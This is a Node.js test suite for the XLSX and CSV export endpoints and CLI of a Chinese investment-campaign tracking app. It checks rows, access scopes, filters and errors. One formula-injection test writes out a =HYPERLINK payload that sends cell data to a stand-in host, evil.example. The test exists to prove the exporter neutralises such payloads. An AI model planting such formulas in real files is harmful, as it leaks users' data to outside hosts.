// Exports of lists (issue 12, R-OUT-3): GET /api/v1/{collection}/export.xlsx|.csv, the
// nested lists and the ranking, and `huizhan export`. Every kind in both formats, for the
// office and for a unit user, checked against raw SQL on the same database; the XLSX read
// back by an independent reader (Debian's python3-openpyxl), the CSV parsed here with its
// BOM and CRLF line ends checked.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync, existsSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startServer, run, DEMO_AS_OF } from './lib.mjs';
import { sql, sqlValue, expectStatus, expectError } from './fixtures.mjs';

let server, office, unitUser, unit, unitName, campaign, work, exportTmp;

// The unit user's view: a unit that co-owns projects led by others (both halves of the
// project scope) and has a proposal it may not see yet (proposals show only once approved).
before(async () => {
  work = mkdtempSync(join(tmpdir(), 'hz-export-'));
  exportTmp = mkdtempSync(join(tmpdir(), 'hz-export-tmp-'));
  server = await startServer({ demo: true, env: { TMPDIR: exportTmp } });
  office = await server.login('office');
  campaign = Number(sqlValue(server.db, 'SELECT MIN(id) FROM campaigns'));
  unit = Number(sqlValue(server.db, `SELECT u.unit_id FROM project_units u JOIN projects p ON p.id = u.project_id
    WHERE p.lead_unit_id <> u.unit_id
      AND EXISTS (SELECT 1 FROM proposals x WHERE x.unit_id = u.unit_id AND x.status <> 'approved')
      AND EXISTS (SELECT 1 FROM proposals x WHERE x.unit_id = u.unit_id AND x.status = 'approved')
    GROUP BY u.unit_id ORDER BY COUNT(*) DESC, u.unit_id LIMIT 1`));
  unitName = sqlValue(server.db, `SELECT name FROM units WHERE id = ${unit}`);
  const login = sqlValue(server.db, `SELECT login FROM users WHERE unit_id = ${unit} AND role = 'unit_staff' ORDER BY id LIMIT 1`);
  unitUser = await server.login(login);
});
after(async () => {
  await server?.stop();
  rmSync(work, { recursive: true, force: true });
  rmSync(exportTmp, { recursive: true, force: true });
});

const q1 = (query) => Number(sqlValue(server.db, query));
const visibleProjects = () => `(SELECT id FROM projects WHERE lead_unit_id = ${unit}
  UNION SELECT project_id FROM project_units WHERE unit_id = ${unit})`;

// ---- readers ----

const READER = `
import datetime, json, sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
ws = wb.worksheets[0]
def v(c):
    x = c.value
    if isinstance(x, datetime.datetime): return x.date().isoformat()
    return x
rows = [[v(c) for c in r] for r in ws.iter_rows()]
first = [{"t": c.data_type, "fmt": c.number_format, "date": c.is_date} for c in ws[2]] if ws.max_row >= 2 else []
print(json.dumps({"sheets": wb.sheetnames, "title": ws.title, "freeze": ws.freeze_panes,
                  "bold": all(c.font.b for c in ws[1]), "header": rows[0] if rows else [],
                  "rows": rows[1:], "first": first}, ensure_ascii=False))
`;

/** Reads an XLSX with Debian's openpyxl: {title, header, rows, first (types of row 2), …}. */
function readXlsx(bytes) {
  const f = join(work, `r${process.hrtime.bigint()}.xlsx`);
  writeFileSync(f, bytes);
  const out = execFileSync('/usr/bin/python3', ['-c', READER, f], { encoding: 'utf8', maxBuffer: 256 << 20 });
  return JSON.parse(out);
}

/** RFC 4180 with a UTF-8 BOM and CRLF line ends (asserted): {header, rows}. */
function readCsv(bytes) {
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'CSV starts with a UTF-8 BOM');
  const text = bytes.subarray(3).toString('utf8');
  assert.ok(text.endsWith('\r\n'), 'the last line ends with CRLF');
  const rows = [];
  let row = [], field = '', quoted = false, i = 0;
  while (i < text.length) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
      if (ch === '"') { quoted = false; i++; continue; }
      field += ch; i++; continue;
    }
    if (ch === '"' && field === '') { quoted = true; i++; continue; }
    if (ch === ',') { row.push(field); field = ''; i++; continue; }
    if (ch === '\r') {
      assert.equal(text[i + 1], '\n', `a bare CR outside quotes at ${i}`);
      row.push(field); rows.push(row); row = []; field = ''; i += 2; continue;
    }
    assert.notEqual(ch, '\n', `a bare LF outside quotes at ${i}`);
    field += ch; i++;
  }
  return { header: rows[0], rows: rows.slice(1) };
}

async function download(client, path) {
  const r = await client.get(path);
  assert.equal(r.status, 200, `${path}: ${r.status} ${r.raw.toString('utf8').slice(0, 300)}`);
  return r;
}

/** Both formats of one export: {xlsx, csv, header, rows (from the XLSX)}; the two agree cell for cell. */
async function both(client, base, query = '') {
  const x = await download(client, `${base}/export.xlsx${query}`);
  assert.equal(x.headers.get('content-type'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const c = await download(client, `${base}/export.csv${query}`);
  assert.equal(c.headers.get('content-type'), 'text/csv; charset=utf-8');
  const xlsx = readXlsx(x.raw), csv = readCsv(c.raw);
  assert.deepEqual(csv.header, xlsx.header, `${base}: same header`);
  assert.equal(csv.rows.length, xlsx.rows.length, `${base}: same number of rows`);
  for (const r of csv.rows) assert.equal(r.length, csv.header.length, `${base}: every CSV row has every column`);
  xlsx.rows.forEach((r, i) => r.forEach((cell, k) => {
    const t = csv.rows[i][k];
    if (cell === null) assert.equal(t, '', `${base} row ${i + 2} col ${k + 1}`);
    else if (typeof cell === 'number') assert.equal(Number(t), cell, `${base} row ${i + 2} col ${k + 1}`);
    else assert.equal(t, String(cell), `${base} row ${i + 2} col ${k + 1}`);
  }));
  return { xlsx, csv, x, c, header: xlsx.header, rows: xlsx.rows };
}

const col = (e, label) => {
  const k = e.header.indexOf(label);
  assert.ok(k >= 0, `column ${label} in ${JSON.stringify(e.header)}`);
  return (row) => row[k];
};

const STAGES = { lead: '信息', negotiating: '洽谈', signed: '签约', started: '开工', completed: '竣工', dropped: '终止' };
const METRICS = { funds_arrived: '到账资金', signed_count: '签约项目数', signed_value: '签约额', started_count: '开工项目数',
  completed_count: '竣工项目数', policy_funds: '争取上级政策资金', leads_count: '项目信息条数' };
const FOLLOW_UP_KINDS = { outbound_visit: '外出拜访', investor_visit: '客商来访', call: '电话沟通', meeting: '会谈', fair: '展会洽谈' };
const FUND_KINDS = { out_of_city: '市外资金', out_of_province: '省外资金', foreign: '境外资金', policy: '上级政策资金' };
const UNIT_CATEGORIES = { industry: '工业', agriculture: '农业', services: '服务业', policy_funds: '政策资金', mass_org: '群团', other: '其他' };

// ---- each kind ----

test('projects: every row the list has, labels and natural keys, for the office and for a unit user', async () => {
  const all = await both(office, '/api/v1/projects');
  assert.equal(all.rows.length, q1('SELECT COUNT(*) FROM projects'));
  assert.equal(all.xlsx.title, '项目');
  assert.equal(all.xlsx.freeze, 'A2');
  assert.ok(all.xlsx.bold, 'bold header');
  assert.deepEqual(all.header.slice(0, 4), ['会战', '项目名称', '牵头单位', '参与单位（联合招商）']);
  assert.ok(!all.header.includes('id') && !all.header.includes('version'));
  // Ordered by id, as the list: the n-th row is the n-th project.
  const [id, name, lead, stage, planned, leadDate, responsible] = sql(server.db, `SELECT p.id, p.name, u.name, p.stage,
    p.planned_investment, p.lead_date, COALESCE(r.login, '') FROM projects p JOIN units u ON u.id = p.lead_unit_id
    LEFT JOIN users r ON r.id = p.responsible_user_id ORDER BY p.id LIMIT 1 OFFSET 7`)[0];
  const row = all.rows[7];
  assert.equal(col(all, '项目名称')(row), name, `project ${id}`);
  assert.equal(col(all, '牵头单位')(row), lead);
  assert.equal(col(all, '阶段')(row), STAGES[stage]);
  assert.equal(col(all, '计划投资')(row), Number(planned), 'yuan, an integer');
  assert.equal(col(all, '信息登记日期')(row), leadDate);
  assert.equal(col(all, '跟踪责任人')(row) ?? '', responsible, 'a person by login');
  assert.equal(col(all, '会战')(row), sqlValue(server.db, `SELECT name FROM campaigns WHERE id = ${campaign}`));
  const k = all.header.indexOf('信息登记日期');
  assert.ok(all.xlsx.first[k].date, 'a date cell in XLSX');
  assert.equal(all.xlsx.first[k].fmt, 'yyyy-mm-dd');
  assert.equal(all.xlsx.first[all.header.indexOf('计划投资')].t, 'n', 'money is a number');
  // A joint project names its co-owning units by name.
  const [jointId, coNames] = sql(server.db, `SELECT pu.project_id, GROUP_CONCAT(u.name, '、') FROM
    (SELECT * FROM project_units ORDER BY project_id, unit_id) pu JOIN units u ON u.id = pu.unit_id
    GROUP BY pu.project_id ORDER BY pu.project_id LIMIT 1`)[0];
  const jointRow = all.rows[q1(`SELECT COUNT(*) FROM projects WHERE id < ${jointId}`)];
  assert.equal(col(all, '参与单位（联合招商）')(jointRow), coNames);

  const mine = await both(unitUser, '/api/v1/projects');
  assert.equal(mine.rows.length, q1(`SELECT COUNT(*) FROM projects WHERE id IN ${visibleProjects()}`));
  assert.ok(mine.rows.length < all.rows.length);
  const co = q1(`SELECT COUNT(*) FROM project_units u JOIN projects p ON p.id = u.project_id WHERE u.unit_id = ${unit} AND p.lead_unit_id <> ${unit}`);
  assert.ok(co > 0);
  const leads = mine.rows.filter((r) => col(mine, '牵头单位')(r) === unitName).length;
  assert.equal(leads, q1(`SELECT COUNT(*) FROM projects WHERE lead_unit_id = ${unit}`));
  for (const r of mine.rows)
    assert.ok(col(mine, '牵头单位')(r) === unitName || (col(mine, '参与单位（联合招商）')(r) || '').split('、').includes(unitName),
      `${col(mine, '项目名称')(r)} is the unit's`);
  // The file name: the list's label and today, in UTF-8 (RFC 5987).
  const disp = all.x.headers.get('content-disposition');
  assert.ok(disp.startsWith('attachment; '), disp);
  assert.ok(disp.includes(`filename*=UTF-8''${encodeURIComponent(`项目清单_${DEMO_AS_OF}.xlsx`)}`), disp);
  assert.ok(all.c.headers.get('content-disposition').includes(encodeURIComponent(`项目清单_${DEMO_AS_OF}.csv`)));
});

test('units: every unit for everyone (a public list), categories as labels', async () => {
  for (const c of [office, unitUser]) {
    const e = await both(c, '/api/v1/units');
    assert.equal(e.rows.length, q1('SELECT COUNT(*) FROM units'));
    const units = sql(server.db, "SELECT units.name, units.category, COALESCE(h.login, '') FROM units LEFT JOIN users h ON h.id = units.head_user_id ORDER BY units.id");
    e.rows.forEach((r, i) => {
      assert.equal(col(e, '名称')(r), units[i][0]);
      assert.equal(col(e, '类别')(r), UNIT_CATEGORIES[units[i][1]]);
      assert.equal(col(e, '主要负责人')(r) ?? '', units[i][2]);
    });
  }
});

test('targets (nested under the campaign): the office gets all, a unit user its own unit only', async () => {
  const base = `/api/v1/campaigns/${campaign}/targets`;
  const all = await both(office, base);
  assert.equal(all.rows.length, q1(`SELECT COUNT(*) FROM targets WHERE campaign_id = ${campaign}`));
  const [unitOf, metric, value] = sql(server.db, `SELECT u.name, t.metric, t.value FROM targets t JOIN units u ON u.id = t.unit_id
    WHERE t.campaign_id = ${campaign} ORDER BY t.id LIMIT 1 OFFSET 3`)[0];
  assert.equal(col(all, '单位')(all.rows[3]), unitOf);
  assert.equal(col(all, '指标')(all.rows[3]), METRICS[metric]);
  assert.equal(col(all, '目标值')(all.rows[3]), Number(value));
  const mine = await both(unitUser, base);
  assert.equal(mine.rows.length, q1(`SELECT COUNT(*) FROM targets WHERE campaign_id = ${campaign} AND unit_id = ${unit}`));
  assert.ok(mine.rows.length > 0);
  assert.ok(mine.rows.every((r) => col(mine, '单位')(r) === unitName));
  assert.ok(all.x.headers.get('content-disposition').includes(encodeURIComponent(`目标任务清单_${DEMO_AS_OF}.xlsx`)));
});

test('follow-ups: all of them, participants by login, and a unit user only those of its projects', async () => {
  const all = await both(office, '/api/v1/follow-ups');
  assert.equal(all.rows.length, q1('SELECT COUNT(*) FROM follow_ups'));
  const [project, kind, date, people] = sql(server.db, `SELECT p.name, f.kind, f.date,
    (SELECT GROUP_CONCAT(login, '、') FROM (SELECT u.login FROM follow_up_participants x JOIN users u ON u.id = x.user_id
      WHERE x.follow_up_id = f.id ORDER BY x.user_id))
    FROM follow_ups f JOIN projects p ON p.id = f.project_id ORDER BY f.id DESC LIMIT 1`)[0];
  const last = all.rows[all.rows.length - 1];
  assert.equal(col(all, '项目')(last), project);
  assert.equal(col(all, '方式')(last), FOLLOW_UP_KINDS[kind]);
  assert.equal(col(all, '日期')(last), date);
  assert.equal(col(all, '参与人员')(last) ?? '', people ?? '');
  const mine = await both(unitUser, '/api/v1/follow-ups');
  assert.equal(mine.rows.length, q1(`SELECT COUNT(*) FROM follow_ups WHERE project_id IN ${visibleProjects()}`));
  assert.ok(mine.rows.length > 0 && mine.rows.length < all.rows.length);
  // Nested under one project, the same as the filter.
  const pid = q1(`SELECT project_id FROM follow_ups GROUP BY project_id ORDER BY COUNT(*) DESC LIMIT 1`);
  const one = await both(office, `/api/v1/projects/${pid}/follow-ups`);
  assert.equal(one.rows.length, q1(`SELECT COUNT(*) FROM follow_ups WHERE project_id = ${pid}`));
});

test('funds: the amounts add up to the SQL sum, in yuan; a unit user gets its projects\' only', async () => {
  const all = await both(office, '/api/v1/funds');
  assert.equal(all.rows.length, q1('SELECT COUNT(*) FROM funds'));
  const amount = col(all, '到账金额'), kind = col(all, '资金类型');
  assert.equal(all.rows.reduce((s, r) => s + amount(r), 0), q1('SELECT SUM(amount) FROM funds'));
  const kinds = sql(server.db, 'SELECT kind FROM funds ORDER BY id').map((r) => FUND_KINDS[r[0]]);
  assert.deepEqual(all.rows.map(kind), kinds);
  assert.deepEqual(all.rows.map(col(all, '认定状态')).filter((s) => s === '已认定').length,
    q1("SELECT COUNT(*) FROM funds WHERE status = 'certified'"));
  const mine = await both(unitUser, '/api/v1/funds');
  assert.equal(mine.rows.length, q1(`SELECT COUNT(*) FROM funds WHERE project_id IN ${visibleProjects()}`));
  assert.equal(mine.rows.reduce((s, r) => s + col(mine, '到账金额')(r), 0),
    q1(`SELECT COALESCE(SUM(amount), 0) FROM funds WHERE project_id IN ${visibleProjects()}`));
});

test('proposals: the office gets all, a unit user only its own approved ones', async () => {
  const base = `/api/v1/campaigns/${campaign}/proposals`;
  const all = await both(office, base);
  assert.equal(all.rows.length, q1(`SELECT COUNT(*) FROM proposals WHERE campaign_id = ${campaign}`));
  assert.ok(!all.header.includes('依据'), 'the frozen basis (JSON) is no column');
  const mine = await both(unitUser, base);
  const approved = q1(`SELECT COUNT(*) FROM proposals WHERE campaign_id = ${campaign} AND unit_id = ${unit} AND status = 'approved'`);
  assert.equal(mine.rows.length, approved);
  assert.ok(approved > 0 && approved < q1(`SELECT COUNT(*) FROM proposals WHERE unit_id = ${unit}`));
  assert.ok(mine.rows.every((r) => col(mine, '单位')(r) === unitName && col(mine, '状态')(r) === '已批准'),
    JSON.stringify(mine.rows));
});

test('ranking: the board\'s overall ranking, whole for a unit user too, with 万元 beside yuan', async () => {
  const base = `/api/v1/campaigns/${campaign}/ranking`;
  const board = expectStatus(await office.get(base), 200);
  for (const c of [office, unitUser]) {
    const e = await both(c, base);
    assert.equal(e.xlsx.title, '综合排名');
    assert.equal(e.rows.length, board.overall.length);
    assert.equal(e.rows.length, q1('SELECT COUNT(*) FROM units'));
    e.rows.forEach((r, i) => {
      const b = board.overall[i];
      assert.equal(col(e, '排名')(r), b.rank);
      assert.equal(col(e, '单位')(r), b.name);
      assert.equal(col(e, '类别')(r), UNIT_CATEGORIES[b.category]);
      assert.equal(col(e, '综合得分')(r), b.score);
      assert.equal(col(e, '认定到账资金（元）')(r), b.funds_certified);
      assert.equal(col(e, '认定到账资金（万元）')(r), Math.round(b.funds_certified / 100) / 100);
      const inCategory = board.by_category[b.category].find((x) => x.unit_id === b.unit_id);
      assert.equal(col(e, '分类排名')(r), inCategory.rank);
    });
  }
  const disp = (await download(office, `${base}/export.csv`)).headers.get('content-disposition');
  assert.ok(disp.includes(encodeURIComponent(`综合排名_${DEMO_AS_OF}.csv`)), disp);
  expectError(await office.get(`${base}/export.xlsx?as_of=2026-13-01`), 400, 'validation_failed', 'as_of');
  expectError(await office.get(`${base}/export.xlsx?limit=5`), 400, 'validation_failed', 'limit');
});

test('ranking: the export keeps the ranking table\'s filters and sort (category, status any-of, -funds_certified)', async () => {
  const base = `/api/v1/campaigns/${campaign}/ranking`;
  const table = `/api/v1/campaigns/${campaign}/dashboard/ranking`;
  const category = sqlValue(server.db, 'SELECT category FROM units GROUP BY category ORDER BY COUNT(*) DESC LIMIT 1');
  for (const q of [`?category=${category}&sort=-funds_certified`, '?status=zero&status=behind', `?as_of=2026-09-20&sort=name`]) {
    const shown = expectStatus(await office.get(`${table}${q}&limit=500`), 200);
    const e = await both(office, base, q);
    assert.ok(shown.items.length > 0 && (shown.items.length < q1('SELECT COUNT(*) FROM units') || q.includes('as_of')), q);
    assert.deepEqual(e.rows.map(col(e, '单位')), shown.items.map((r) => r.name), q);
    assert.deepEqual(e.rows.map(col(e, '排名')), shown.items.map((r) => r.rank), q);
    assert.deepEqual(e.rows.map(col(e, '分类排名')), shown.items.map((r) => r.category_rank ?? null), q);
  }
  const byCat = await both(office, base, `?category=${category}`);
  assert.equal(byCat.rows.length, q1(`SELECT COUNT(*) FROM units WHERE category = '${category}'`));
  assert.ok(byCat.rows.every((r) => col(byCat, '类别')(r) === UNIT_CATEGORIES[category]));
  expectError(await office.get(`${base}/export.csv?category=planets`), 400, 'validation_failed', 'category');
  expectError(await office.get(`${base}/export.csv?status=late`), 400, 'validation_failed', 'status');
  expectError(await office.get(`${base}/export.xlsx?sort=bogus`), 400, 'validation_failed', 'sort');
  // The CLI takes them as --field=value.
  const file = join(work, 'rank-cat.csv');
  const r = await run(['export', 'ranking', file, '--db', server.db, `--campaign_id=${campaign}`, `--category=${category}`]);
  assert.equal(r.code, 0, r.stderr);
  assert.deepEqual(readCsv(readFileSync(file)).rows.map((x) => x[2]), byCat.rows.map(col(byCat, '单位')));
});

// ---- the list's parameters ----

test('filters and sort are the list\'s: stage=signed gives exactly the SQL count, any-of and sort too', async () => {
  const signed = await both(office, '/api/v1/projects', '?stage=signed');
  assert.equal(signed.rows.length, q1("SELECT COUNT(*) FROM projects WHERE stage = 'signed'"));
  assert.ok(signed.rows.length > 0 && signed.rows.every((r) => col(signed, '阶段')(r) === '签约'));
  const two = await both(office, '/api/v1/projects', '?stage=signed&stage=started&sort=-planned_investment');
  assert.equal(two.rows.length, q1("SELECT COUNT(*) FROM projects WHERE stage IN ('signed', 'started')"));
  const planned = two.rows.map(col(two, '计划投资'));
  assert.deepEqual(planned, [...planned].sort((a, b) => b - a), 'sorted by planned investment, descending');
  assert.equal(col(two, '项目名称')(two.rows[0]), sqlValue(server.db,
    "SELECT name FROM projects WHERE stage IN ('signed', 'started') ORDER BY planned_investment DESC, id DESC LIMIT 1"));
  // The unit user's filter narrows inside its scope.
  const mine = await both(unitUser, '/api/v1/projects', '?stage=signed');
  assert.equal(mine.rows.length, q1(`SELECT COUNT(*) FROM projects WHERE stage = 'signed' AND id IN ${visibleProjects()}`));
  const dated = await both(office, '/api/v1/funds', '?date_from=2026-09-01&date_to=2026-09-30');
  assert.equal(dated.rows.length, q1("SELECT COUNT(*) FROM funds WHERE date BETWEEN '2026-09-01' AND '2026-09-30'"));
  assert.ok(dated.rows.every((r) => col(dated, '到账日期')(r) >= '2026-09-01' && col(dated, '到账日期')(r) <= '2026-09-30'));
  // More rows than one page of the list could hold.
  const many = await download(office, '/api/v1/follow-ups/export.csv');
  assert.ok(readCsv(many.raw).rows.length > 500);
});

test('a bad parameter is a 400 naming it, and no file is left behind', async () => {
  expectError(await office.get('/api/v1/projects/export.xlsx?stagex=signed'), 400, 'validation_failed', 'stagex');
  const bad = expectError(await office.get('/api/v1/projects/export.csv?stage=nope'), 400, 'validation_failed', 'stage');
  assert.match(bad.message, /签约/, 'the allowed values are named');
  expectError(await office.get('/api/v1/projects/export.csv?sort=nope'), 400, 'validation_failed', 'sort');
  expectError(await office.get('/api/v1/projects/export.csv?limit=10'), 400, 'validation_failed', 'limit');
  expectError(await office.get('/api/v1/projects/export.csv?offset=10'), 400, 'validation_failed', 'offset');
  expectError(await office.get('/api/v1/projects/export.csv?sort=name&sort=id'), 400, 'validation_failed', 'sort');
  expectError(await office.get('/api/v1/funds/export.csv?date_from=2026-02-30'), 400, 'validation_failed', 'date_from');
  const nf = await office.get('/api/v1/nothing/export.csv');
  assert.equal(nf.status, 404);
  assert.equal((await office.get(`/api/v1/projects/${campaign}/targets/export.csv`)).status, 404, 'targets are not under projects');
  assert.equal((await office.get('/api/v1/campaigns/999999/targets/export.xlsx')).status, 404, 'no such campaign');
  assert.equal((await office.get('/api/v1/projects/export.pdf')).status, 404);
  // Neither a failed nor a finished export leaves a file in the server's temporary directory.
  assert.deepEqual(readdirSync(exportTmp).filter((f) => f.startsWith('huizhan-export')), []);
});

test('formula injection: a project named =HYPERLINK(…) is text with a leading quote in both files', async () => {
  const name = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
  const r = await office.post('/api/v1/projects', { campaign_id: campaign, name, lead_unit_id: unit, category: 'industrial',
    method: 'industry', planned_investment: 1000000, source_name: '+86 138', description: '@SUM(1,2)' });
  expectStatus(r, 201);
  const e = await both(office, '/api/v1/projects', `?q=${encodeURIComponent('HYPERLINK')}`);
  assert.equal(e.rows.length, 1);
  assert.equal(col(e, '项目名称')(e.rows[0]), `'${name}`);
  assert.equal(col(e, '信息提供人（系统外）')(e.rows[0]), "'+86 138");
  assert.equal(col(e, '项目简介')(e.rows[0]), "'@SUM(1,2)");
  const k = e.header.indexOf('项目名称');
  assert.equal(e.xlsx.first[k].t, 's', 'a string, not a formula');
  // The raw CSV field: quoted (it holds a comma and quotes), the quote inside doubled, the guard first.
  assert.ok(e.c.raw.toString('utf8').includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"`));
  // The unit user (whose unit leads it) sees it too, guarded the same way.
  const mine = await both(unitUser, '/api/v1/projects', '?q=HYPERLINK');
  assert.equal(col(mine, '项目名称')(mine.rows[0]), `'${name}`);
});

test('capabilities and the OpenAPI document show the exports', async () => {
  for (const c of [office, unitUser]) {
    const caps = expectStatus(await c.get('/api/v1/me'), 200).capabilities;
    for (const k of ['projects', 'units', 'targets', 'follow-ups', 'funds', 'proposals', 'ranking'])
      assert.ok(caps[k]?.includes('export'), `${k}: ${JSON.stringify(caps[k])}`);
  }
  const doc = expectStatus(await office.get('/api/v1/openapi.json'), 200);
  for (const p of ['/api/v1/projects/export.xlsx', '/api/v1/projects/export.csv', '/api/v1/campaigns/{id}/targets/export.xlsx',
    '/api/v1/campaigns/{id}/proposals/export.csv', '/api/v1/campaigns/{id}/ranking/export.xlsx', '/api/v1/projects/{id}/funds/export.csv'])
    assert.ok(doc.paths[p]?.get, `${p} documented`);
  const params = doc.paths['/api/v1/projects/export.xlsx'].get.parameters.map((p) => p.name);
  assert.ok(params.includes('stage') && params.includes('sort') && params.includes('q'));
  assert.ok(!params.includes('limit') && !params.includes('offset'));
  assert.ok(doc.paths['/api/v1/projects/export.csv'].get.responses['200'].content['text/csv']);
});

// ---- the command line ----

test('huizhan export KIND FILE: the same rows, the format from the extension, filters as --field=value', async () => {
  const db = join(work, 'cli.db');
  execFileSync('sqlite3', [server.db, `.backup '${db}'`]);
  const x = join(work, '签约项目.xlsx');
  let r = await run(['export', 'projects', x, '--db', db, '--stage=signed', '--stage=started']);
  assert.equal(r.code, 0, r.stderr);
  const want = Number(sqlValue(db, "SELECT COUNT(*) FROM projects WHERE stage IN ('signed', 'started')"));
  assert.match(r.stdout, new RegExp(`已导出 ${want} 行`));
  const book = readXlsx(readFileSync(x));
  assert.equal(book.rows.length, want);
  const c = join(work, 'units.data');
  r = await run(['export', 'units', c, '--db', db, '--format', 'csv', '--sort=-name']);
  assert.equal(r.code, 0, r.stderr);
  const units = readCsv(readFileSync(c));
  assert.deepEqual(units.rows.map((u) => u[0]), sql(db, 'SELECT name FROM units ORDER BY name DESC, id DESC').map((u) => u[0]));
  r = await run(['export', 'ranking', join(work, 'r.csv'), '--db', db, `--campaign_id=${campaign}`]);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(readCsv(readFileSync(join(work, 'r.csv'))).rows.length, Number(sqlValue(db, 'SELECT COUNT(*) FROM units')));
  // Bad input: a clear message, exit 2, and no file (nor a temporary one) left.
  for (const [args, field] of [
    [['export', 'projects', join(work, 'bad.csv'), '--db', db, '--stage=nope'], 'stage'],
    [['export', 'projects', join(work, 'bad.csv'), '--db', db, '--stagex=1'], 'stagex'],
    [['export', 'nothing', join(work, 'bad.csv'), '--db', db], 'KIND'],
    [['export', 'projects', join(work, 'bad.txt'), '--db', db], 'format'],
    [['export', 'ranking', join(work, 'bad.csv'), '--db', db], 'campaign_id'],
  ]) {
    r = await run(args);
    assert.equal(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
    assert.ok(r.stderr.includes(field), r.stderr);
    assert.ok(!existsSync(args[2]), `${args[2]} not written`);
  }
  assert.deepEqual(readdirSync(work).filter((f) => f.startsWith('.huizhan-export')), []);
  // Read only: the audit log did not grow.
  assert.equal(sqlValue(db, 'SELECT COUNT(*) FROM audit_log'), sqlValue(server.db, 'SELECT COUNT(*) FROM audit_log'));
});
